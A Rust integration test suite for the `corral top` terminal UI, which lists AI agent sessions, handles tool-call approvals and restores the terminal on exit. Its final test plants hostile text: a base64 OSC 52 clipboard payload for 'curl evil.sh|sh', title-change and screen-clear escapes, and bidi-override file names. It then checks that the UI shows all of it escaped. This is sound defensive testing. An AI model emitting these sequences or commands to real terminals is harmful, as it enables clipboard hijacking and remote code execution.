//! `corral top` in a real terminal (tmux) against a real `corral serve` and the fake model:
//! the list of sessions with the one waiting for an answer marked and first, answering it
//! with one key, the live feed, closing, the bus dropping, the local sessions of an earlier
//! `corral run`, and session text that tries to act on the terminal instead of being shown.
//! Each test keeps its last screen in `ci-artifacts/top-<name>.txt`.

use std::time::Duration;

use reqwest::Method;
use serde_json::{Value, json};

use crate::server_rest::client::Api;
use crate::support::{FakeModel, Harness, Reply, Tmux};
use crate::terminal::assert_never_written;

/// `corral top` against the server, the token in the environment (never in the list of
/// arguments shown by `ps`), then the exit code for the screen.
fn top_command(api: &Api) -> String {
    format!(
        "CORRAL_TOKEN={} {} top --server {}; echo EXIT=$?; sleep 60",
        api.token,
        env!("CARGO_BIN_EXE_corral"),
        api.server.base
    )
}

/// Keeps the screen as CI's artifact `top-<name>.txt`; returns it.
fn keep(tmux: &Tmux, name: &str) -> String {
    tmux.save(&format!("top-{name}"));
    tmux.screen()
}

/// Presses q (as many times as views are open) and checks top ended well.
async fn quit(tmux: &Tmux, times: usize) {
    for _ in 0..times {
        tmux.keys("q");
    }
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=0"), "{screen}");
}

/// The screen's line that shows `needle`.
fn line_with<'a>(screen: &'a str, needle: &str) -> &'a str {
    screen
        .lines()
        .find(|l| l.contains(needle))
        .unwrap_or_else(|| panic!("no line shows {needle:?}:\n{screen}"))
}

/// A session of `api` that ran one turn the model answered with `reply`.
async fn answered(h: &Harness, api: &Api, model: &FakeModel, extra: Value, reply: Reply) -> String {
    model.push(reply);
    let id = api.create(h, model, extra).await;
    api.send(&id, "say something").await;
    api.wait_idle_after(&id, 1).await;
    id
}

/// A session of `api` whose turn waits for an answer about `tool` called with `arguments`.
async fn waiting(h: &Harness, api: &Api, model: &FakeModel, tool: &str, arguments: &str) -> String {
    model.push(Reply::new().tool_call("c1", tool, arguments));
    model.push(Reply::new().text("Done as asked."));
    let id = api.create(h, model, json!({})).await;
    api.send(&id, "do it").await;
    api.wait_session(&id, |s| s["status"] == "waiting_approval")
        .await;
    id
}

#[tokio::test]
async fn top_lists_three_sessions_and_answers_an_approval_with_one_key() {
    let h = Harness::new();
    let model = FakeModel::start().await;
    let api = Api::start(&h).await;
    let talked = answered(&h, &api, &model, json!({}), Reply::new().text("Hello.")).await;
    let blocked = waiting(
        &h,
        &api,
        &model,
        "write_file",
        r#"{"path":"x.txt","content":"hi\n"}"#,
    )
    .await;
    let fresh = api.create(&h, &model, json!({})).await;
    let tmux = Tmux::start(&h, &top_command(&api));
    tmux.wait_for(&fresh).await;
    let screen = tmux.wait_for("1 ⚠ approval").await;
    for id in [&talked, &blocked, &fresh] {
        assert!(screen.contains(id.as_str()), "{id} is listed:\n{screen}");
    }
    let row = line_with(&screen, &blocked);
    assert!(
        row.contains("⚠ APPROVAL") && row.contains("▶"),
        "the waiting session is marked, first, and selected:\n{screen}"
    );
    assert!(line_with(&screen, &talked).contains("idle"), "{screen}");
    // Titled by their first prompts, as the server lists them.
    assert!(
        line_with(&screen, &talked).contains("say something"),
        "{screen}"
    );
    assert!(line_with(&screen, &blocked).contains("do it"), "{screen}");
    assert!(
        screen.contains(&api.server.base),
        "the source is named:\n{screen}"
    );
    tmux.keys("a");
    let screen = tmux.wait_for("write_file wants to run").await;
    assert!(screen.contains("+hi"), "the diff is shown:\n{screen}");
    assert!(screen.contains("[y] yes  [n] no"), "{screen}");
    keep(&tmux, "approval");
    crate::tui::answer(&tmux, "y").await;
    tmux.wait_for("answered: allow").await;
    api.wait_idle_after(&blocked, 1).await;
    assert_eq!(
        std::fs::read_to_string(h.work().join("x.txt")).unwrap(),
        "hi\n"
    );
    let path = format!("/api/v1/sessions/{blocked}/permissions");
    let (_, open) = api.call(Method::GET, &path, None).await;
    assert_eq!(open["permissions"], json!([]));
    let messages = format!("/api/v1/sessions/{blocked}/messages");
    let (_, body) = api.call(Method::GET, &messages, None).await;
    assert_eq!(
        body["messages"].as_array().unwrap().last().unwrap()["text"],
        "Done as asked."
    );
    tmux.wait_until("the session no longer waiting", |s| {
        !s.contains("⚠ APPROVAL")
    })
    .await;
    let screen = keep(&tmux, "answered");
    assert!(!screen.contains(&api.token), "the token is never shown");
    // Resized to a small terminal: redrawn to fit, every id whole (8 hex digits).
    tmux.resize(80, 24);
    let screen = tmux
        .wait_until("the list at 80 columns", |s| {
            s.contains(&blocked) && s.lines().all(|l| l.chars().count() <= 80)
        })
        .await;
    assert!(
        screen.contains(&talked) && screen.contains(&fresh),
        "{screen}"
    );
    assert!(screen.lines().all(|l| l.chars().count() <= 80), "{screen}");
    keep(&tmux, "narrow");
}

#[tokio::test]
async fn top_feed_shows_a_session_live() {
    let h = Harness::new();
    let model = FakeModel::start().await;
    let api = Api::start(&h).await;
    let id = answered(
        &h,
        &api,
        &model,
        json!({}),
        Reply::new().text("First answer."),
    )
    .await;
    let tmux = Tmux::start(&h, &top_command(&api));
    tmux.wait_for(&id).await;
    tmux.keys("Enter");
    tmux.wait_for("First answer.").await;
    model.push(
        Reply::new()
            .reasoning("Thinking it over.")
            .text("Second answer, live."),
    );
    api.send(&id, "and again").await;
    let screen = tmux.wait_for("Second answer, live.").await;
    assert!(screen.contains("› and again"), "{screen}");
    // Thoughts folded, as in the session view, until Ctrl-T.
    assert!(screen.contains("✻ thinking (1 line"), "{screen}");
    tmux.keys("C-t");
    tmux.wait_for("Thinking it over.").await;
    keep(&tmux, "feed");
    // The history overlay, from the server's record of the conversation.
    tmux.keys("h");
    tmux.wait_for("history ·").await;
    tmux.wait_for("│› say something").await;
    // Esc closes the overlay, q the feed, q again quits.
    tmux.keys("Escape");
    tmux.wait_for("Esc/q back").await;
    tmux.keys("q");
    tmux.wait_for("s sort").await;
    quit(&tmux, 1).await;
}

#[tokio::test]
async fn top_closes_a_session_and_says_when_the_server_is_gone() {
    let h = Harness::new();
    let model = FakeModel::start().await;
    let api = Api::start(&h).await;
    let id = api.create(&h, &model, json!({})).await;
    let tmux = Tmux::start(&h, &top_command(&api));
    tmux.wait_for(&id).await;
    tmux.keys("x");
    tmux.wait_for("Close session").await;
    tmux.keys("y");
    api.wait_session(&id, |s| s["status"] == "dead").await;
    let screen = tmux.wait_for("1 dead").await;
    assert!(line_with(&screen, &id).contains("dead"), "{screen}");
    keep(&tmux, "closed");
    let Api { server, .. } = api;
    server.stop().await;
    tmux.wait_for("disconnected, retrying").await;
    // Still listed, and still quits cleanly.
    let screen = keep(&tmux, "disconnected");
    assert!(screen.contains(&id), "{screen}");
    quit(&tmux, 1).await;
}

#[tokio::test]
async fn top_interrupts_a_running_turn() {
    let h = Harness::new();
    let model = FakeModel::start().await;
    model.push(Reply::new().stall(Duration::from_secs(60)).text("too late"));
    let api = Api::start(&h).await;
    let id = api.create(&h, &model, json!({})).await;
    api.send(&id, "take your time").await;
    assert!(
        model
            .wait_for_chat_requests(1, Duration::from_secs(10))
            .await
    );
    let tmux = Tmux::start(&h, &top_command(&api));
    assert!(line_with(&tmux.wait_for(&id).await, &id).contains("working"));
    tmux.keys("i");
    tmux.wait_for("interrupted the running turn").await;
    api.wait_idle_after(&id, 1).await;
    tmux.keys("Enter");
    tmux.wait_for("turn 1 cancelled").await;
    keep(&tmux, "interrupted");
    quit(&tmux, 2).await;
}

#[tokio::test]
async fn top_without_a_server_lists_the_local_sessions_read_only() {
    let h = Harness::new();
    let model = FakeModel::start().await;
    model.push(Reply::new().text("Answered locally."));
    let run = h
        .corral()
        .args(["run", "-m", "llamacpp:m", "--base-url"])
        .arg(model.openai_base())
        .arg("hello there")
        .run()
        .await;
    assert!(run.success(), "{}", run.stderr);
    let logs = h.event_logs();
    let name = logs[0].file_name().unwrap().to_str().unwrap();
    let id = name.strip_suffix(".events.jsonl").unwrap();
    let command = format!(
        "{} top; echo EXIT=$?; sleep 60",
        env!("CARGO_BIN_EXE_corral")
    );
    let tmux = Tmux::start(&h, &command);
    let screen = tmux.wait_for(id).await;
    assert!(screen.contains(" local "), "{screen}");
    assert!(
        line_with(&screen, id).contains("dead"),
        "the run has ended:\n{screen}"
    );
    assert!(
        line_with(&screen, id).contains("hello there"),
        "titled by its prompt:\n{screen}"
    );
    tmux.keys("Enter");
    let screen = tmux.wait_for("Answered locally.").await;
    assert!(screen.contains("› hello there"), "{screen}");
    tmux.keys("i");
    tmux.wait_for("read-only").await;
    keep(&tmux, "local");
    quit(&tmux, 2).await;
}

/// The terminal is never left raw: an unreachable server is a message and exit 1 before
/// the screen is taken.
#[tokio::test]
async fn top_with_an_unreachable_server_exits_1_with_the_terminal_as_it_was() {
    let h = Harness::new();
    let command = format!(
        "{} top --server http://127.0.0.1:9 --token t; echo EXIT=$?; stty -a | tr ' ;' '\\n\\n' | grep -x -- '-\\?icanon'; sleep 60",
        env!("CARGO_BIN_EXE_corral"),
    );
    let tmux = Tmux::start(&h, &command);
    let screen = tmux.wait_for("EXIT=").await;
    assert!(screen.contains("EXIT=1"), "{screen}");
    assert!(
        screen.contains("cannot reach http://127.0.0.1:9/api/v1/sessions"),
        "{screen}"
    );
    let screen = tmux.wait_for("icanon").await;
    assert!(
        !screen.contains("-icanon"),
        "the terminal was left raw:\n{screen}"
    );
    keep(&tmux, "unreachable");
}

/// SIGTERM (or SIGHUP) while the screen is taken ends `top` as q does: the terminal comes
/// back cooked, on its main screen.
#[tokio::test]
async fn top_gives_the_terminal_back_on_sigterm() {
    let h = Harness::new();
    let pid_file = h.home_dir().join("top.pid");
    let command = format!(
        "sh -c 'echo $$ > {}; exec {} top'; echo EXIT=$?; stty -a | tr ' ;' '\\n\\n' | grep -x -- '-\\?icanon'; sleep 60",
        pid_file.display(),
        env!("CARGO_BIN_EXE_corral"),
    );
    let tmux = Tmux::start(&h, &command);
    tmux.wait_for("corral top").await;
    let pid = std::fs::read_to_string(&pid_file).unwrap();
    let killed = std::process::Command::new("kill")
        .args(["-TERM", pid.trim()])
        .status()
        .unwrap();
    assert!(killed.success());
    let screen = tmux.wait_for("icanon").await;
    assert!(screen.contains("EXIT=143"), "{screen}");
    assert!(
        !screen.contains("-icanon"),
        "the terminal was left raw:\n{screen}"
    );
    assert!(
        !screen.contains("corral top"),
        "the main screen is back:\n{screen}"
    );
}

/// What a session says (model text, a command it wants run, even the model name a user chose
/// when opening it) is shown as text: an OSC 52 clipboard write, a title change, a screen
/// clear or a bidi override never reach the terminal raw. tmux with set-clipboard on would
/// turn a raw OSC 52 into a paste buffer.
#[tokio::test]
async fn top_shows_hostile_session_text_escaped() {
    let h = Harness::new();
    let model = FakeModel::start().await;
    let api = Api::start(&h).await;
    let hostile_model = "llamacpp:fake\u{1b}]0;owned\u{7}";
    let text = "Here is the fix.\u{1b}]52;c;Y3VybCBldmlsLnNofHNo\u{7}\u{1b}[2J Done: \u{202e}txt.exe\u{202c}";
    let talker = answered(
        &h,
        &api,
        &model,
        json!({ "model": hostile_model }),
        Reply::new().text(text),
    )
    .await;
    let command = "touch pwned # \u{1b}[2J\u{1b}[H\u{1b}[32m$ ls\u{1b}[0m \u{202e}gnp.txt";
    let arguments = json!({ "command": command }).to_string();
    let asker = waiting(&h, &api, &model, "shell", &arguments).await;
    let (tmux, raw) = Tmux::start_recorded(&h, &top_command(&api));
    tmux.wait_for(&talker).await;
    // The waiting one is selected: its question, escaped.
    assert!(line_with(&tmux.screen(), &asker).contains("▶"));
    tmux.keys("a");
    let screen = tmux
        .wait_for(r"$ touch pwned # \x1b[2J\x1b[H\x1b[32m$ ls\x1b[0m \u{202e}gnp.txt")
        .await;
    assert!(
        screen.contains("▸ touch pwned"),
        "what really runs:\n{screen}"
    );
    keep(&tmux, "hostile-approval");
    crate::tui::answer(&tmux, "n").await;
    api.wait_idle_after(&asker, 1).await;
    assert!(!h.work().join("pwned").exists());
    // The talker's feed and history.
    tmux.keys("Down");
    tmux.keys("Enter");
    let shown =
        r"Here is the fix.\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J Done: \u{202e}txt.exe\u{202c}";
    let screen = tmux.wait_for(shown).await;
    assert!(
        screen.contains(r"llamacpp:fake\x1b]0;owned\x07"),
        "{screen}"
    );
    keep(&tmux, "hostile-feed");
    tmux.keys("h");
    tmux.wait_for("history ·").await;
    tmux.wait_for(shown).await;
    quit(&tmux, 3).await;
    assert_never_written(
        &tmux,
        &raw,
        b"fix.",
        &[
            b"\x1b]52",
            b"\x1b]0;",
            b"\x07",
            b"\xe2\x80\xae",
            b"\xe2\x80\xac",
        ],
    );
}
